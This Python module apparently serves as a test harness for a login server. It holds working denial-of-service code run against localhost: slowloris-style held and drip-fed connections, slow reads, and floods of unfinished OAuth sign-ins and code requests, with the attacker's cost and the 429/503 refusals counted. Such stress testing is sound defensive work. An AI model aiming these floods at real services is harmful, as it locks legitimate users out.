"""Attacks that try to lock out others: many connections that wait for something, and endless sign-ins."""

import collections
import errno
import itertools
import multiprocessing
import os
import re
import select
import signal
import socket
import time

HEAD = b" HTTP/1.1\r\nHost: login.example.com\r\n"
TOKEN = b"POST /token" + HEAD + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\na="


def upload(path):
    return b"POST " + path + HEAD + b"Content-Type: image/png\r\nContent-Length: 60000000\r\n\r\na"


class Kind:
    """What each connection sends first, what it sends each second, after how long it sends a request again, how it reads."""

    def __init__(self, first, drip=0, again=None, reads=None):
        self.first, self.drip, self.again, self.reads = first, drip, again, reads


CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n"
KINDS = {
    "uploads": Kind(upload(b"/upload")),
    "chunked": Kind(b"POST /token" + HEAD + b"Content-Type: application/x-www-form-urlencoded\r\n" + CHUNKED),
    "drip": Kind(upload(b"/upload"), drip=505),
    "early": Kind(upload(b"/early"), drip=505),
    "idle": Kind(b"GET /page" + HEAD + b"\r\n", again=50.0),
    "silent": Kind(b""),
    "heads": Kind(b"GET /page" + HEAD),
    "refused": Kind(b"X\r\n\r\n"),
    "bodies": Kind(TOKEN, drip=505),
    "reads": Kind(b"GET /big" + HEAD + b"\r\n", reads=100_000),
    "pages": Kind((b"GET /authorize" + HEAD + b"\r\n") * 200, reads=0),
}


class Result(collections.namedtuple("Result", "opened held bytes_per_second")):
    """The cost for the attacker."""


class Attack:
    """`count` connections from `sources`, each opened again as soon as it is closed, in a separate process."""

    def __init__(self, kind, port, sources, count):
        self.results, theirs = multiprocessing.Pipe(False)
        arguments = (KINDS[kind], port, sources, count, theirs)
        self.process = multiprocessing.get_context("fork").Process(target=attack, args=arguments, daemon=True)
        self.process.start()

    def end(self):
        os.kill(self.process.pid, signal.SIGUSR1)
        result = self.results.recv() if self.results.poll(10) else Result(0, 0, 0)
        self.process.kill()
        self.process.join()
        return result


class Loop:
    def __init__(self, kind, port, sources):
        self.kind, self.port, self.sources = kind, port, sources
        self.poll, self.held = select.epoll(), {}
        self.opened = self.sent = 0

    def open(self):
        client = socket.socket()
        client.setblocking(False)
        if self.kind.reads is not None:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            client.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: ports are not used up
            client.bind((self.sources[self.opened % len(self.sources)], 0))
            client.connect(("127.0.0.1", self.port))
        except OSError as error:
            if error.errno != errno.EINPROGRESS:
                client.close()
                return
        self.opened += 1
        self.held[client.fileno()] = [client, False, time.monotonic()]
        self.poll.register(client.fileno(), select.EPOLLOUT | select.EPOLLIN)

    def send(self, client, data):
        try:
            self.sent += client.send(data) if data else 0
        except OSError:
            pass

    def event(self, number, event):
        client, began, _ = self.held[number]
        if event & select.EPOLLOUT and not began:
            self.held[number][1] = True
            self.poll.modify(number, 0 if self.kind.reads is not None else select.EPOLLIN)
            self.send(client, self.kind.first)
            return
        ended = bool(event & (select.EPOLLHUP | select.EPOLLERR))
        if not ended and event & select.EPOLLIN:
            try:
                ended = not client.recv(65536)
            except BlockingIOError:
                pass
            except OSError:
                ended = True
        if ended:
            self.poll.unregister(number)
            client.close()
            del self.held[number]

    def second(self):
        """The step of each connection, once a second."""
        now = time.monotonic()
        for client, began, since in self.held.values():
            if began and self.kind.drip:
                self.send(client, b"a" * self.kind.drip)
        for one in self.held.values():
            if self.kind.again and one[1] and now - one[2] > self.kind.again:
                one[2] = now
                self.send(one[0], self.kind.first)
            if self.kind.reads and one[1] and now - one[2] > 8:
                one[2], left = now, self.kind.reads
                try:
                    while left > 0 and (piece := one[0].recv(min(left, 65536))):
                        left -= len(piece)
                except OSError:
                    pass


def attack(kind, port, sources, count, results):
    is_over = []
    signal.signal(signal.SIGUSR1, lambda *_: is_over.append(True))
    loop, began = Loop(kind, port, sources), time.monotonic()
    due = began + 1
    while not is_over:
        for _ in range(min(200, count - len(loop.held))):
            loop.open()
        for number, event in loop.poll.poll(0.02):
            if number in loop.held:
                loop.event(number, event)
        if time.monotonic() >= due:
            due = time.monotonic() + 1
            loop.second()
    took = time.monotonic() - began
    results.send(Result(loop.opened, len(loop.held), loop.sent / took))


CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeJT5Wz4sbTAA4U3TzOY"
REFUSED = re.compile(rb"HTTP/1\.1 (?:429|503)")


def request(number, state, client, redirect="http://a/"):
    return (
        f"GET /authorize?response_type=code&client_id={client}&redirect_uri={redirect}{number}&code_challenge={CHALLENGE}"
        f"&code_challenge_method=S256&state={state} HTTP/1.1\r\nHost: login.example.com\r\n\r\n"
    )


def answers(connection, count):
    """The number of heads of answers in the received bytes; bodies may be among them."""
    came = b""
    while came.count(b"HTTP/1.1 ") < count or not came.endswith((b"\r\n\r\n", b"\n", b"}", b">")):
        piece = connection.recv(1 << 20)
        if not piece:
            break
        came += piece
    return came


def fill(port, sources, count, state, client, results):
    """Starts sign-ins that do not continue, from each of these addresses in turn, until they are refused."""
    connections = itertools.cycle([socket.create_connection(("127.0.0.1", port), 30, (source, 0)) for source in sources])
    sent = done = refused = 0
    batch = 100 if len(state) < 1000 else 20
    try:
        while done < count and refused < 200:
            words = [request(f"{os.getpid()}x{done + at}", state, client or f"c{os.getpid()}x{done + at}") for at in range(batch)]
            data = "".join(words).encode()
            connection = next(connections)
            connection.sendall(data)
            came = answers(connection, batch)
            if not came:
                break
            sent += len(data)
            done += batch
            refused += len(REFUSED.findall(came))
    except OSError:
        pass
    results.put((done, sent, refused))


def codes(port, source, seconds, results):
    """Starts sign-ins that the upstream finishes at once, with five codes for each."""
    connection = socket.create_connection(("127.0.0.1", port), 30, (source, 0))
    done = sent = refused = 0
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            data = "".join(request("", "abcd12345678", f"c{os.getpid()}") for _ in range(20)).encode()
            connection.sendall(data)
            handles = [piece.split(b"&")[0].split(b"\r")[0].decode() for piece in answers(connection, 20).split(b"state=")[1:]]
            if not handles:
                refused += 20
                time.sleep(0.2)
            for handle in handles:
                again = (request("", handle, f"c{os.getpid()}") * 5).encode()
                connection.sendall(again)
                came = answers(connection, 5)
                done += came.count(b"code=")
                refused += len(REFUSED.findall(came))
                sent += len(again)
            sent += len(data)
    except OSError:
        pass
    results.put((done, sent, refused))


def together(target, many, *arguments):
    """Runs the attack in `many` processes. Returns the sums of what they completed, sent, and saw refused."""
    context = multiprocessing.get_context("fork")
    results = context.Queue()
    processes = [context.Process(target=target, args=(*arguments, results), daemon=True) for _ in range(many)]
    for process in processes:
        process.start()
    found = [results.get() for _ in processes]
    for process in processes:
        process.join()
    return [sum(column) for column in zip(*found)]
